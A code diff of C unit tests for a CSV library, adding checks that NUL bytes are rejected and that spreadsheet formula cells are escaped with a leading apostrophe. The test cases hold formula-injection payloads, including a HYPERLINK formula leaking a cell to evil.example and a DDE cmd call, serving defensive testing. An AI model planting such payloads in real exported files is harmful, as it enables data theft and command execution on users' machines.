@@ -11,10 +11,11 @@
 #include "nc-test-util.h"
 
 static GPtrArray *
-read_all (const char  *text,
-          GError     **error)
+read_all_n (const char  *text,
+            gsize        length,
+            GError     **error)
 {
-  g_autoptr(NcCsvReader) reader = nc_csv_reader_new (text, strlen (text));
+  g_autoptr(NcCsvReader) reader = nc_csv_reader_new (text, length);
   g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
   GPtrArray *fields = NULL;
   guint line;
@@ -30,6 +31,13 @@ read_all (const char  *text,
       return NULL;
     }
   return g_steal_pointer (&records);
+}
+
+static GPtrArray *
+read_all (const char  *text,
+          GError     **error)
+{
+  return read_all_n (text, strlen (text), error);
 }
 
 /* Records joined as "a|b|@line" and separated by "/". */
@@ -133,6 +141,80 @@ test_write_reads_back (void)
     g_assert_cmpstr (back->pdata[i], ==, fields[i]);
 }
 
+/* A NUL byte would cut a field short without a word: it is an error with the NUL's own
+ * line, wherever it is — in a plain field, in a quoted one spanning lines, alone. */
+static void
+test_nul_refused (void)
+{
+  static const struct
+  {
+    const char *csv;
+    gsize       length;
+    const char *starts;
+  } cases[] = {
+    { "a,b\n79001112233\0evil,x\n", 22, "2: the text has a NUL byte" },
+    { "a\n\"one\ntwo\0\",b\n", 16, "3: the text has a NUL byte" },
+    { "a\n\0\n", 4, "2: the text has a NUL byte" },
+    { "\0", 1, "1: the text has a NUL byte" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(GError) error = NULL;
+      g_autoptr(GPtrArray) records = read_all_n (cases[i].csv, cases[i].length, &error);
+
+      g_assert_null (records);
+      g_assert_error (error, NC_CSV_ERROR, NC_CSV_ERROR_NUL);
+      g_test_message ("%s", error->message);
+      g_assert_true (g_str_has_prefix (error->message, cases[i].starts));
+    }
+}
+
+/* A cell a spreadsheet would run as a formula is written with a ' in front (OWASP), and
+ * reads back as it was; a cell that only looks like a neutralised one gets a ' more. */
+static void
+test_formulas_neutralised (void)
+{
+  static const struct
+  {
+    const char *field;
+    const char *written;
+  } cases[] = {
+    { "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+      "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" },
+    { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+    { "+79001112233", "'+79001112233" },
+    { "-2+3", "'-2+3" },
+    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+    { "\tx", "'\tx" },
+    { "\rx", "\"'\rx\"" },
+    { "'=already", "''=already" },
+    { "''@twice", "'''@twice" },
+    { "'plain", "'plain" },
+    { "'", "'" },
+    { "a=b", "a=b" },
+    { "", "" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      const char *fields[] = { cases[i].field, "next" };
+      g_autoptr(GString) out = g_string_new (NULL);
+      g_autoptr(GPtrArray) records = NULL;
+      g_autoptr(GError) error = NULL;
+      g_autofree char *expected = g_strconcat (cases[i].written, ",next\r\n", NULL);
+      GPtrArray *back;
+
+      nc_csv_append_row (out, fields, G_N_ELEMENTS (fields));
+      g_assert_cmpstr (out->str, ==, expected);
+
+      records = read_all (out->str, &error);
+      g_assert_no_error (error);
+      back = records->pdata[0];
+      g_assert_cmpstr (back->pdata[0], ==, cases[i].field);
+    }
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -142,6 +224,8 @@ main (int   argc,
   g_test_add_func ("/csv/valid", test_valid);
   g_test_add_func ("/csv/invalid", test_invalid);
   g_test_add_func ("/csv/write-reads-back", test_write_reads_back);
+  g_test_add_func ("/csv/nul-refused", test_nul_refused);
+  g_test_add_func ("/csv/formulas-neutralised", test_formulas_neutralised);
 
   return nc_test_run ();
 }
